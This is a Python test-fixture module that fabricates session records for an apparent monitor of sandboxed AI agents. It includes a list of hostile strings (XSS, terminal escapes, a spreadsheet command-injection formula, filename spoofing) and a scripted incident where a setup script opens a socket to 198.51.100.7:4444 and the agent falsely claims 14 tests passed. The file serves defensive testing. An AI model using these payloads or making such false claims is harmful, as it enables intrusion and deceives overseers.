"""Made-up answers of the documented shapes: an incident, a session full of hostile strings, one of 10,000 lines."""

from __future__ import annotations

import hashlib
import json
from typing import Any

START = 1_772_366_602_000_000_000
HOSTILE = (
    "<img src=x onerror=document.title='owned'>",
    "</pre></a><script>document.title='owned'</script>",
    "\x1b[31mred\x1b[0m \x07 \x9b31m",
    "safe\u202egpj.exe\u2066 zero\u200bwidth \ufeff",
    "[link](javascript:alert(1)) ![img](http://192.0.2.1/x.png) $x^2$ :smile: **bold** `code`",
    "line one\nline two\r\nline three\ttab",
    "=cmd|' /C calc'!A0",
    "bytes \udcff\udc80 and \ud800",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f algo",
    "\"' onmouseover='document.title=1",
)


def output(n: int, kind: str, what: str, at: float, **more: Any) -> dict[str, Any]:
    words = {"process.exec": "ended with 0 after 0.02 s", "net.connect": f"tried to reach {what}"}
    ref = more.pop("ref", f"12.{n}")
    return {
        "ref": ref,
        "kind": kind,
        "time_ns": START + int(at * 1e9),
        "pid": 40 + n % 9,
        "pid_start_ns": START,
        "depth": 1,
        "process": "bash",
        "object": what,
        "summary": words.get(kind, "touched it"),
        "result": 0,
        "errno": 0,
        "count": 1,
        "edge": {"reason": "child of the agent's shell", "confidence": 1.0},
        "flags": [],
        "refs": [ref],
        **more,
    }


def claim(n: int, text: str, **more: Any) -> dict[str, Any]:
    """What an agent said of itself, each part of it this text."""
    told = {
        "tool": {"name": text, "arguments": text, "result": text},
        "output": [{"role": text, "text": text, "tool_calls": [{"id": text, "name": text, "arguments": text}]}],
        "error": text,
        "usage": {text: 1},
        "start_ns": START,
    }
    head = {"ref": f"12.{n}", "n": 1, "kind": "claim.span", "received_ns": START, "title": text, "operation": "chat"}
    return {**head, "told": told, "edge": None, "note": None, **more}


def turn(index: int, commands: list[str], outputs: list[dict[str, Any]], at: float, **more: Any) -> dict[str, Any]:
    counts = {
        name: sum(o["count"] for o in outputs if o["kind"].startswith(name)) for name in ("process", "file", "net")
    }
    shown = {
        "ref": f"11.{index}",
        "time_ns": START + int(at * 1e9),
        "model": "scripted-1",
        "messages_total": 2 * index,
        "new_messages": [
            {
                "role": "tool",
                "text": "<returncode>0</returncode>\n<output>\nREADME.md\nsrc\ntests\n</output>",
                "tool_call_id": "c1",
            }
        ],
        "cut": False,
    }
    answer = {
        "ref": f"11.{index + 500}",
        "time_ns": START + int((at + 0.2) * 1e9),
        "text": "Let me look at the project first.",
        "tool_calls": [
            {"id": f"call_{index}", "name": "bash", "arguments": json.dumps({"command": c})} for c in commands
        ],
        "commands": commands,
        "finish_reason": "tool_calls",
        "streamed": True,
        "cut": False,
    }
    return {
        "index": index,
        "kind": "model",
        "input": shown,
        "decision": answer,
        "outputs": outputs,
        "counts": counts,
        "events_total": sum(o["count"] for o in outputs),
        **more,
    }


def session(name: str, **more: Any) -> dict[str, Any]:
    return {
        "id": name,
        "sandbox": f"st-{name[:8].lower()}",
        "command": ["mini", "--model", "scripted-1", "--task", "fix the failing test"],
        "state": "ended",
        "started_ns": START,
        "ended_ns": START + 18_240_000_000,
        "exit_status": 0,
        "turns": 5,
        "events": 1240,
        "gaps": 0,
        "findings": 0,
        "agent_pid": 1,
        "completeness": {"from_first_instruction": True, "reason": "the trace connection came before container/start"},
        "sources": [
            {
                "source": "gvisor",
                "version": "release-20250203.0",
                "sees": ["execution", "files", "network", "processes", "identity"],
                "blind": ["memory contents", "arguments that are not UTF-8", "reads of mapped files"],
            },
            {
                "source": "gateway",
                "version": "mitmproxy 12.2",
                "sees": ["HTTP and HTTPS through the gateway"],
                "blind": ["pinned certificates"],
            },
            {
                "source": "netfilter",
                "version": "nftables 1.0.6",
                "sees": ["every flow and DNS query of the sandbox"],
                "blind": ["payloads"],
            },
        ],
        **more,
    }


def incident() -> dict[str, Any]:
    """A short story with findings, a gap and something unexplained."""
    listing = [
        output(1, "process.exec", "bash -c 'ls -la && cat README.md'", 1.31, depth=0, flags=["decided"]),
        output(2, "process.exec", "ls -la", 1.33, process="ls"),
        output(3, "file.open", "/repo", 1.331, process="ls", depth=2),
        output(
            4,
            "file.open",
            "",
            1.34,
            process="ls",
            depth=2,
            count=812,
            summary="opened 812 files for reading",
            refs=[f"12.{n}" for n in range(4, 12)],
        ),
        output(12, "process.exec", "cat README.md", 1.36, process="cat"),
        output(13, "file.open", "/repo/CHANGES", 1.361, process="cat", depth=2, errno=2, result=-1),
    ]
    edit = [
        output(20, "process.exec", "bash -c \"sed -i 's/==/>=/' src/calc.py\"", 3.1, depth=0, flags=["decided"]),
        output(21, "process.exec", "sed -i s/==/>=/ src/calc.py", 3.12, process="sed"),
        output(22, "file.open", "/repo/src/calc.py", 3.13, process="sed", depth=2),
        output(23, "file.create", "/repo/src/sedXq81Ab", 3.14, process="sed", depth=2),
        output(24, "file.rename", "/repo/src/sedXq81Ab → /repo/src/calc.py", 3.15, process="sed", depth=2),
    ]
    fetch = [
        output(
            30,
            "process.exec",
            "bash -c 'curl -s http://packages.example/requirements.txt'",
            5.0,
            depth=0,
            flags=["decided"],
        ),
        output(31, "process.exec", "curl -s http://packages.example/requirements.txt", 5.05, process="curl"),
        output(32, "http.exchange", "GET http://packages.example/requirements.txt → 200", 5.2, process="curl", depth=2),
        output(33, "process.exec", "bash ./tools/setup.sh", 5.4),
        output(
            34,
            "process.exec",
            "python3 -c 'import socket; socket.create_connection((\"198.51.100.7\", 4444))'",
            5.5,
            depth=2,
            process="python3",
            flags=["not named by the decision"],
            edge={"reason": "started by ./tools/setup.sh, which no decision names", "confidence": 0.8},
        ),
        output(
            35,
            "net.connect",
            "198.51.100.7:4444",
            5.6,
            depth=3,
            process="python3",
            flags=["refused"],
            errno=110,
            result=-1,
        ),
    ]
    last = turn(4, [], [], 12.0)
    last["decision"] |= {
        "text": "All done. I fixed the comparison and ran the whole test suite: 14 tests passed.",
        "tool_calls": [],
        "finish_reason": "stop",
    }
    start = {
        "index": 0,
        "kind": "start",
        "input": None,
        "decision": None,
        "counts": {"process": 1, "file": 394},
        "events_total": 395,
        "outputs": [
            output(
                100,
                "process.exec",
                "python3 -m minisweagent --task 'fix the failing test'",
                0.01,
                depth=0,
                process="python3",
            ),
            output(
                101,
                "file.open",
                "",
                0.4,
                process="python3",
                count=393,
                summary="opened 393 files for reading",
                flags=["folded"],
            ),
        ],
    }
    findings = [
        {
            "id": "f1",
            "verdict": "BYPASS",
            "severity": "high",
            "title": "A connection went around the gateway",
            "turn": 3,
            "explanation": "python3 (pid 47) tried to reach 198.51.100.7:4444 directly. The packet filter dropped it; "
            "the gateway never saw it.",
            "refs": ["12.35", "14.2"],
        },
        {
            "id": "f2",
            "verdict": "UNDECIDED_ACTION",
            "severity": "high",
            "title": "A command that no decision asked for",
            "turn": 3,
            "explanation": "tools/setup.sh started python3 -c …. The model asked for setup.sh, not for this.",
            "refs": ["12.34"],
        },
        {
            "id": "f3",
            "verdict": "PHANTOM",
            "severity": "high",
            "title": "Tests were claimed that never ran",
            "turn": 4,
            "explanation": "The final message says that 14 tests passed. No test runner was executed in this session, "
            "and no evidence is missing in which one could hide.",
            "refs": ["11.504"],
        },
    ]
    odd = [output(60, "process.exec", "/usr/sbin/cron-hook --daily", 9.4, depth=0, process="cron-hook", edge=None)]
    gap = {
        "ref": "13.7",
        "cause": "unencodable",
        "count": 1,
        "from_ns": START + 5_450_000_000,
        "to_ns": START + 5_480_000_000,
        "stream": 77,
    }
    return {
        "session": session("01JNAGENTREVIEW0001", findings=3, gaps=1),
        "turns": [
            start,
            turn(1, ["ls -la && cat README.md"], listing, 1.0),
            turn(2, ["sed -i 's/==/>=/' src/calc.py"], edit, 2.8),
            turn(3, ["curl -s http://packages.example/requirements.txt && bash ./tools/setup.sh"], fetch, 4.7),
            last,
        ],
        "unexplained": odd,
        "findings": findings,
        "gaps": [gap],
    }


def hostile() -> dict[str, Any]:
    """Every hostile string in every place where a sandbox can put one."""
    lines = [
        output(
            200 + n,
            "process.exec",
            text,
            1 + n / 10,
            process=text[:15],
            summary="",
            flags=["odd"] if n == 0 else [],
            edge={"reason": text, "confidence": 0.5},
        )
        for n, text in enumerate(HOSTILE)
    ]
    only = turn(1, list(HOSTILE), lines, 1.0)
    only["input"]["new_messages"] = [
        {"role": text[:20], "text": text, "tool_call_id": text, "is_error": True} for text in HOSTILE
    ]
    only["input"] |= {"model": HOSTILE[0], "api": HOSTILE[0]}
    only["decision"] |= {"text": "\n".join(HOSTILE), "reasoning": "\n".join(HOSTILE), "finish_reason": HOSTILE[1]}
    only["decision"]["tool_calls"] = [
        {"id": text, "name": text, "arguments": {text: [text]}, "server": True, "result": text} for text in HOSTILE
    ]
    finding = {
        "id": "h",
        "verdict": HOSTILE[0],
        "severity": HOSTILE[1],
        "title": HOSTILE[2],
        "turn": 1,
        "explanation": HOSTILE[3],
        "refs": ["12.200"],
    }
    claims = [claim(400 + n, text, edge={"reason": text, "confidence": 0.5}) for n, text in enumerate(HOSTILE)]
    only |= {"claims": claims, "claims_total": len(claims)}
    gap = {"ref": "12.1", "cause": HOSTILE[0], "count": None, "from_ns": START, "to_ns": None, "stream": None}
    return {
        "session": session(
            "hostile",
            command=list(HOSTILE),
            sandbox=HOSTILE[0],
            findings=1,
            gaps=1,
            exit_status=1,
            completeness={"from_first_instruction": False, "reason": HOSTILE[0]},
            sources=[{"source": HOSTILE[0], "sees": list(HOSTILE), "blind": list(HOSTILE)}],
        ),
        "turns": [only],
        "unexplained": lines[:2],
        "findings": [finding],
        "gaps": [gap],
        "claims": {
            "unplaced": [claim(500, HOSTILE[1], note=HOSTILE[2])],
            "unplaced_total": 1,
            "total": 11,
            "others": 2,
            "left_out": 0,
        },
    }


def large(lines: int = 10_000, turns: int = 125) -> dict[str, Any]:
    """A session of many lines, one turn of it with a thousand."""
    each = (lines - 1000) // (turns - 1)
    told = []
    for index in range(turns):
        count = 1000 if index == 60 else each
        kinds = ("process.exec", "file.open", "file.write", "net.connect")
        rows = [
            output(
                n,
                kinds[n % 4],
                f"/repo/src/module_{index}/file_{n}.py",
                index + n / 2000,
                ref=f"{index + 1}.{n}",
                depth=n % 5,
            )
            for n in range(count)
        ]
        told.append(turn(index, [f"python3 -m build --step {index}"], rows, float(index)))
    return {
        "session": session("large", turns=turns, events=lines, command=["python3", "-m", "agent", "--long"]),
        "turns": told,
        "unexplained": [],
        "gaps": [],
        "findings": [
            {
                "id": "b",
                "verdict": "BYPASS",
                "severity": "high",
                "title": "Around the gateway",
                "turn": 60,
                "explanation": "One of a thousand.",
                "refs": ["61.999"],
            }
        ],
    }


def frame(ref: str, session_id: str, verified: bool = True) -> dict[str, Any]:
    segment, _, index = ref.partition(".")
    raw = (
        b"\x14\x00\x03\x00\x00\x00\x00\x00"
        + json.dumps({"argv": ["curl", "-s", "http://packages.example/"], "ref": ref}).encode()
        + bytes(range(256))
    )
    digests = [hashlib.sha256(str(n).encode()).hexdigest() for n in range(14)]
    steps = [
        ("frame bytes hash to the leaf", digests[0]),
        ("leaf leads to the segment's root", "13 hashes"),
        ("manifest carries that root", "entry 118"),
        ("entry leads to the log's root", "8 hashes"),
        ("checkpoint is signed by the log's key", "node1.example+6a1f0c11"),
    ]
    checks = [{"step": step, "ok": verified or n != 1, "detail": detail} for n, (step, detail) in enumerate(steps)]
    row = {
        "ref": ref,
        "session": session_id,
        "source": "gvisor",
        "kind": "process.exec",
        "time_ns": START + 5 * 10**9,
        "pid": 47,
        "ppid": 44,
        "process": "curl",
        "exe": "/usr/bin/curl",
        "cwd": "/repo",
        "object": "/usr/bin/curl",
        "uid": 0,
        "detail": '{"argv":["curl","-s"]}',
        "n": 0,
    }
    return {
        "ref": ref,
        "frame": {
            "stream": "00000000008c0c77",
            "seq": 311,
            "kind": "DATA",
            "realtime_ns": START + 5_000_120_000,
            "monotonic_ns": 88_123_000_111,
            "boottime_ns": 99_123_000_111,
            "size": len(raw),
        },
        "source": {
            "source": "gvisor",
            "session": session_id,
            "sandbox": "st-01jnag",
            "version": "release-20250203.0",
            "sees": ["execution", "files"],
            "blind": ["memory"],
        },
        "raw_hex": raw.hex(),
        "raw_truncated": False,
        "decoded": [row],
        "fields": {
            "context_data": {
                "time_ns": START,
                "thread_id": 47,
                "process_name": HOSTILE[0],
                "cwd": "/repo",
                "credentials": {"real_uid": 0, "groups": [0, 1]},
            },
            "binary_path": "/usr/bin/curl",
            "argv": ["curl", "-s", "http://packages.example/", *HOSTILE],
            "env": [],
        },
        "position": {
            "segment": int(segment),
            "index": int(index),
            "log_index": 118,
            "log_size": 412,
            "origin": "node1.example",
        },
        "proof": {
            "leaf": digests[0],
            "inner": digests[1:8],
            "inner_root": digests[8],
            "outer": digests[9:13],
            "root": digests[13],
            "checkpoint": "node1.example\n412\nq83vEjRWeJCrze8SNFZ4kKvN7xI0VniQq83vEjRWeA=\n\n— node1.example ah8M\n",
        },
        "verified": verified,
        "checks": checks,
        "previous": f"{segment}.{int(index) - 1}" if int(index) else None,
        "next": f"{segment}.{int(index) + 1}",
    }
